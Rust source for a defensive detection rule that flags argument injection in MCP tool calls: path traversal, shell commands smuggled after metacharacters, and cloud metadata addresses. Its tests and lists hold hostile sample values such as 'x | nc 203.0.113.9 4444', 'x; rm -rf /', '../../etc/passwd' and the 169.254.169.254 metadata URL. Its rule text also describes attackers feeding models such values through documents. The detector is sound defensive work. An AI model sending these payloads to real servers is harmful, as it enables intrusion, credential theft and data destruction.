//! CP-07 argument-injection: `../`, shell metacharacters, metadata URL in arguments of tools that do not take code.

use super::{metadata, prelude::*};
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use serde_json::Value;

use super::words::{takes_code, words};
use crate::mcp::MessageKind;

const META: Meta = Meta {
    id: "CP-07",
    slug: "argument-injection",
    category: "capability",
    trigger: "`../`, shell metacharacters, metadata URL in arguments of tools that do not take code",
    silent_on: "code tools listed",
    severity: Severity::High,
    sight: Sight::Plaintext,
    needs: "-",
    taxonomy: Taxonomy {
        air_sec_026: &["privilege-escalation"],
        owasp_mcp: &["MCP05"],
        atlas: &["AML.T0053"],
    },
    listens: &[Kind::Message],
    page: Page {
        means: "An argument of a tool call tries to break out: to a file outside the tool's folder, to a command of the shell that the tool may start, or to the cloud's metadata service.",
        attacker: "Gives the model such a value through a document or another tool's result, and counts on a server that joins arguments to paths or command lines unchecked.",
        wire: "A string in `params.arguments` of `tools/call` with `../` (also `..\\` and percent-encoded), with `;`, `|`, `&&`, `$(` or a backtick before a command, or with an address of a cloud metadata service.",
        act: "Look at the result: did it hold a file or output that the tool should not give? If so treat the server's host as compromised. Find where the model got the value.",
        quiet: "Tools that take code by their name (shell, SQL, editors, search by pattern) and arguments that hold text (`content`, `message`, `code`, `query`…) are judged by the metadata address only. List further tools: `rules: {CP-07: {allow: [render_template]}}`.",
    },
};

/// Cheap to find: without one of them an argument cannot be one.
const NEEDLES: &[&str] = &[
    "../", "..\\", "..%", "%2e%2e", "$(", "\\n", "`", ";", "|", "&&", "\\u00", "\\/",
];
static NEEDLE: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(NEEDLES)
        .ok()
});

/// Words of arguments that hold text or code, in which anything may stand.
const TEXTS: &[&str] = &[
    "content",
    "contents",
    "text",
    "message",
    "body",
    "code",
    "command",
    "cmd",
    "script",
    "sql",
    "query",
    "source",
    "diff",
    "patch",
    "html",
    "markdown",
    "prompt",
    "description",
    "comment",
    "regex",
    "pattern",
    "expression",
    "template",
    "title",
    "summary",
    "note",
    "notes",
    "reason",
    "data",
    "input",
    "thought",
    "selector",
    "jsonpath",
    "filter",
];

/// Programs that are started by such values.
const COMMANDS: &[&str] = &[
    "rm",
    "curl",
    "wget",
    "sh",
    "bash",
    "zsh",
    "nc",
    "ncat",
    "cat",
    "id",
    "whoami",
    "ls",
    "python",
    "python3",
    "perl",
    "ruby",
    "node",
    "powershell",
    "cmd",
    "chmod",
    "chown",
    "echo",
    "ping",
    "sleep",
    "uname",
    "env",
    "printenv",
    "touch",
    "mkfifo",
    "base64",
    "dd",
    "kill",
    "scp",
    "ssh",
    "nslookup",
    "dig",
    "calc",
];

/// Longest argument in which commands and paths are looked for, bytes: longer ones are text.
const MAX_VALUE: usize = 1024;
/// Arguments of one call that are looked at.
const MAX_VALUES: usize = 512;

/// Nothing to remember.
#[derive(Default)]
pub(super) struct ArgumentInjection;

impl Rule for ArgumentInjection {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn on(&mut self, seen: &Seen<'_>, world: &World<'_>, out: &mut Vec<Finding>) {
        let SeenKind::Message { message, context } = &seen.kind else {
            return;
        };
        if message.kind != MessageKind::Request || !message.is("tools/call") {
            return;
        }
        let Some(params) = message.params() else { return };
        let metadata = metadata::named(params).is_some();
        if !metadata && !NEEDLE.as_ref().is_some_and(|n| n.is_match(params)) {
            return;
        }
        let tool = message.name.as_deref().unwrap_or_default();
        let code = takes_code(tool);
        // There only the metadata service counts.
        if code && !metadata {
            return;
        }
        if world.pins.accepts(META.id, context.target.endpoint, tool) {
            return;
        }
        let Some(arguments) =
            super::mcp::params(message).and_then(|mut p| Some(p.get_mut("arguments")?.take()))
        else {
            return;
        };
        let mut found: Vec<(String, &'static str)> = Vec::new();
        let mut room = MAX_VALUES;
        walk(&arguments, "", code, &mut room, &mut found);
        let index = context.target.endpoint;
        let tool = shown(tool);
        for (place, what) in found {
            let place = shown(&place);
            out.push(
                Finding::new(
                    META.id,
                    format!(
                        "{} called {tool} of {} with {what} in {place}; look at the result, and find where the value came from",
                        agent(seen),
                        label(world, index, &context.target.origin.host)
                    ),
                )
                .at(index)
                .expected([format!("a plain value for {place} of {tool}")])
                .observed(format!("{what} in {place} of {tool}")),
            );
        }
    }
}

/// Looks at every string. Depth is bounded by the JSON reader. One finding of each kind.
fn walk(value: &Value, key: &str, code: bool, room: &mut usize, found: &mut Vec<(String, &'static str)>) {
    let Some(left) = room.checked_sub(1) else { return };
    *room = left;
    match value {
        Value::String(text) => {
            let free = code || words(key).iter().any(|w| TEXTS.contains(&w.as_str()));
            if let Some(what) = injected(text, free)
                && !found.iter().any(|(_, w)| *w == what)
            {
                found.push((key.to_owned(), what));
            }
        }
        Value::Array(items) => items.iter().for_each(|item| walk(item, key, code, room, found)),
        Value::Object(map) => map
            .iter()
            .for_each(|(key, item)| walk(item, key, code, room, found)),
        _ => {}
    }
}

/// What a value tries; where text or code is expected, only the metadata service counts.
fn injected(text: &str, free: bool) -> Option<&'static str> {
    if metadata::named(text.as_bytes()).is_some() {
        return Some("the address of a cloud metadata service");
    }
    if free || text.len() > MAX_VALUE {
        return None;
    }
    if climbs(text) {
        return Some("a path that climbs out (../)");
    }
    commands(text).then_some("a shell command")
}

/// A segment `..` followed by a separator, as it is or percent-encoded.
fn climbs(text: &str) -> bool {
    let lower = text.to_ascii_lowercase().replace("%2e", ".");
    let plain = lower.replace("%2f", "/").replace("%5c", "\\");
    let bytes = plain.as_bytes();
    plain.match_indices("..").any(|(at, _)| {
        let before = at.checked_sub(1).and_then(|i| bytes.get(i));
        let after = bytes.get(at.saturating_add(2));
        before.is_none_or(|b| matches!(b, b'/' | b'\\' | b'=' | b'"' | b':' | b' '))
            && after.is_some_and(|b| matches!(b, b'/' | b'\\'))
    })
}

/// A character that ends or nests a command, and then a program.
fn commands(text: &str) -> bool {
    let after = |rest: &str, closed: bool| {
        let rest = rest.trim_start();
        let end = rest
            .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '/' | '_' | '.')))
            .unwrap_or(rest.len());
        let (word, tail) = rest.split_at_checked(end).unwrap_or((rest, ""));
        let program = word.rsplit('/').next().unwrap_or_default();
        if !COMMANDS.contains(&program) {
            return false;
        }
        // In prose a program's name is followed by words; in a command by an option, a path or the end.
        let argument = tail.trim_start();
        closed
            || word.contains('/')
            || argument.is_empty()
            || argument.starts_with([
                '-', '/', '~', '$', '.', '>', '<', '|', ';', '&', '#', '\'', '"', '*',
            ])
            || argument.starts_with(|c: char| c.is_ascii_digit())
            || argument.starts_with("http")
            || argument
                .split(' ')
                .next()
                .is_some_and(|a| a.contains('.') || a.contains('/'))
    };
    let bytes = text.as_bytes();
    let mut at = 0usize;
    while let Some(next) = bytes.get(at..).and_then(|rest| {
        rest.iter()
            .position(|b| matches!(b, b';' | b'|' | b'&' | b'$' | b'`' | b'\n'))
    }) {
        let here = at.saturating_add(next);
        let rest = |n: usize| text.get(here.saturating_add(n)..).unwrap_or_default();
        let hit = match bytes.get(here) {
            Some(b'$') => rest(1).starts_with('(') && after(rest(2), true),
            Some(b'`') => rest(1).contains('`') && after(rest(1), true),
            _ => after(rest(1).trim_start_matches(['|', '&']), false),
        };
        if hit {
            return true;
        }
        at = here.saturating_add(1);
    }
    false
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn calls(pins: &str, tool: &str, arguments: &Value) -> Vec<Finding> {
        let json = serde_json::json!({"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":tool,"arguments":arguments}});
        Bench::new(ArgumentInjection, pins).says(&json.to_string())
    }

    fn one(value: &str) -> usize {
        calls("", "get_report", &serde_json::json!({"name": value})).len()
    }

    #[test]
    fn fires_on_paths_commands_and_metadata() {
        for value in [
            "../../etc/passwd",
            "reports/../../secret",
            "..\\..\\windows\\win.ini",
            "%2e%2e%2fetc%2fpasswd",
            "..%2f..%2fetc",
            "x; rm -rf /",
            "x | nc 203.0.113.9 4444",
            "x && curl http://203.0.113.9/a",
            "$(id)",
            "`whoami`",
            "a\ncat /etc/passwd",
            "x;/bin/sh",
            "http://169.254.169.254/latest/meta-data/",
        ] {
            assert_eq!(one(value), 1, "{value}");
        }
        let nested = serde_json::json!({"options": {"paths": ["ok", "../x"]}});
        assert_eq!(
            calls("", "get_report", &nested)[0].observed.as_deref(),
            Some("a path that climbs out (../) in paths of get_report")
        );
        let escaped = r#"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"get","arguments":{"p":"\u002e\u002e\/x"}}}"#;
        assert_eq!(Bench::new(ArgumentInjection, "").says(escaped).len(), 1);
    }

    #[test]
    fn stays_silent_on_code_tools_texts_and_ordinary_values() {
        for (tool, key, value) in [
            ("run_shell", "x", "ls | cat; rm -rf build"),
            ("edit_file", "new", "import a from '../a'"),
            ("send_email", "body", "see ../readme; cat in hat | dog"),
            ("get_report", "name", "AT&T; Q&A | 2026, cost $(5)"),
            ("get_report", "name", "cats & dogs; id card"),
            ("get_report", "name", "wait... /etc"),
            ("get_report", "url", "https://a.example/x?a=1;b=2&c=3"),
            ("get_report", "name", "a..b/c"),
        ] {
            assert!(
                calls("", tool, &serde_json::json!({ key: value })).is_empty(),
                "{value}"
            );
        }
        let pins = "rules: {CP-07: {allow: [render]}}\n";
        assert!(calls(pins, "render", &serde_json::json!({"path": "../x"})).is_empty());
    }

    proptest! {
        #[test]
        fn any_text_is_looked_at(text in "[-;|&$`(). /a-zñ\n]{0,60}") {
            let _ = injected(&text, false);
        }
    }
}
